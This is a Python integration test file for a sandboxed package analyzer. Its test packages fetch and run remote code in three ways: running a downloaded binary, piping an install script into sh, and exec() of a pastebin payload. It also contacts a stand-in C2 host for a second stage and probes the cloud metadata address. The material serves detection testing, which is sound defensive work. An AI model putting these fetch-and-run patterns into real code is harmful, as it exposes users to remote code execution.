"""What the simulated internet answers, as packages in real sandboxes meet it: downloads that are run, answers of one's own, no answer."""

from __future__ import annotations

from pathlib import Path

import pytest

from analyzer.model.report import Report
from analyzer.sandbox import answers
from analyzer.sandbox.interface import Manner
from tests.integration.analysing import SANDBOXES, behaviors, everywhere, report_of
from tests.packages import make_wheel

FETCH = """
import os, subprocess, urllib.request
def fetch(url):
    with urllib.request.urlopen(url, timeout=10) as answer:
        return answer.read()
"""
PROGRAM = (
    FETCH
    + """
with open("/tmp/tool", "wb") as tool:
    tool.write(fetch("https://cdn.example/download/tool"))
os.chmod("/tmp/tool", 0o755)
assert subprocess.run(["/tmp/tool"]).returncode == 0
"""
)
PIPED = (
    FETCH
    + """
assert subprocess.run(["sh"], input=fetch("http://cdn.example/install.sh")).returncode == 0
"""
)
EVALUATED = (
    FETCH
    + """
exec(fetch("https://pastebin.com/raw/k3VbT7qM"))
"""
)
KEPT = (
    FETCH
    + """
with open("/tmp/tool", "wb") as tool:
    tool.write(fetch("https://cdn.example/download/tool"))
"""
)
RUNS = {"program": PROGRAM, "piped": PIPED, "evaluated": EVALUATED}
URLS = {
    "program": "https://cdn.example/download/tool",
    "piped": "http://cdn.example/install.sh",
    "evaluated": "https://pastebin.com/raw/k3VbT7qM",
}


def analysed(folder: Path, sandbox: str, tracer: str, cache: Path, manner: Manner, **modules: str) -> Report:
    wheel = make_wheel(
        folder, "met", modules={"met/__init__.py": "", **{f"met/{name}.py": text for name, text in modules.items()}}
    )
    return report_of(wheel, sandbox, tracer, cache, manner)


def details(report: Report, behavior: str) -> list[str]:
    return [one.detail for found in report.behaviors if found.id == behavior for one in found.evidence]


@everywhere
def test_a_download_that_is_run_is_seen_to_be_run(
    sandbox: str, tracer: str, tmp_path: Path, cache_directory: Path
) -> None:
    report = analysed(tmp_path, sandbox, tracer, cache_directory, Manner(callables=False), **RUNS)
    found = details(report, "execution.download.run")
    for name, url in URLS.items():
        assert any(one.startswith(f"what GET {url} gave was run: it asked for /var/tmp/.build-") for one in found), name
    assert {one.url: one.status for one in report.network.http} == dict.fromkeys(URLS.values(), 200)


@pytest.mark.embedded
def test_a_download_that_is_kept_is_not(tmp_path: Path, cache_directory: Path) -> None:
    report = analysed(tmp_path, "embedded", "kernel", cache_directory, Manner(callables=False), kept=KEPT)
    assert details(report, "execution.download.run") == []
    assert [one.url for one in report.network.http] == ["https://cdn.example/download/tool"]


OWN = (
    FETCH
    + """
import json, socket
told = json.loads(fetch("https://c2.vendor.example/gate"))
assert told["task"] == "run" and len(told["token"]) == 32, told
assert fetch("https://c2.vendor.example/a/stage2.py") == b"print('second stage')\\n"
assert fetch("http://c2.vendor.example/install.sh").startswith(b"#!/bin/sh")
assert socket.gethostbyname("c2.vendor.example") == "203.0.113.77"
"""
)


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_answers_of_ones_own_come_first(sandbox: str, tmp_path: Path, cache_directory: Path) -> None:
    own = tmp_path / "own"
    (own / "c2.vendor.example/a").mkdir(parents=True)
    (own / "c2.vendor.example/a/stage2.py").write_text("print('second stage')\n")
    (own / "answers.yaml").write_text(
        "answers:\n"
        "  - for: {hosts: [c2.vendor.example], paths: [/gate]}\n"
        "    json: {task: run, token: '{alnum:32 as task token}'}\n"
        "dns:\n  - {name: c2.vendor.example, type: A, answers: [203.0.113.77]}\n"
    )
    manner = Manner(callables=False, answers=answers.read(own))
    report = analysed(tmp_path, sandbox, "strace", cache_directory, manner, own=OWN)
    detail = next(phase.detail for phase in report.phases if phase.name == "import")
    assert detail == "2 of 2 modules imported"
    assert report.sandbox.network == "simulated"
    assert {one.url for one in report.network.http} == {
        "https://c2.vendor.example/gate", "https://c2.vendor.example/a/stage2.py", "http://c2.vendor.example/install.sh",
    }  # fmt: skip


OFF = """
import errno, socket, time
begin = time.monotonic()
try:
    socket.getaddrinfo("www.vendor.example", 443)
except socket.gaierror:
    pass
else:
    raise AssertionError("a name resolves")
for address in (("203.0.113.9", 443), ("169.254.169.254", 80)):
    try:
        socket.create_connection(address, timeout=10)
    except OSError as error:
        assert error.errno in {errno.ECONNREFUSED, errno.ENETUNREACH}, error
    else:
        raise AssertionError("something answers")
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
    line.connect(("203.0.113.53", 123))
    line.settimeout(10)
    line.send(bytes(48))
    try:
        line.recv(100)
    except ConnectionRefusedError:
        pass
with socket.create_server(("127.0.0.1", 0)) as own, socket.create_connection(own.getsockname(), timeout=10):
    pass
assert time.monotonic() - begin < 5, "it takes long"
"""


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_off_answers_nothing_and_records_what_was_asked(sandbox: str, tmp_path: Path, cache_directory: Path) -> None:
    manner = Manner(callables=False, network="off")
    report = analysed(tmp_path, sandbox, "strace", cache_directory, manner, off=OFF)
    assert report.completeness.status == "complete", report.completeness.reasons
    detail = next(phase.detail for phase in report.phases if phase.name == "import")
    assert detail == "2 of 2 modules imported"
    assert report.sandbox.network == "off"
    assert report.network.http == []
    assert {(one.name, one.type, tuple(one.answers)) for one in report.network.dns} >= {("www.vendor.example", "A", ())}
    met = {(one.transport, one.address, one.port): one for one in report.network.connections}
    assert {("tcp", "203.0.113.9", 443), ("tcp", "169.254.169.254", 80), ("udp", "203.0.113.53", 123)} <= set(met)
    assert not any(one.received_bytes for one in met.values())
    assert "network.tcp.connect" in behaviors(report)
    assert all(one.transport != "icmp" for one in met.values())
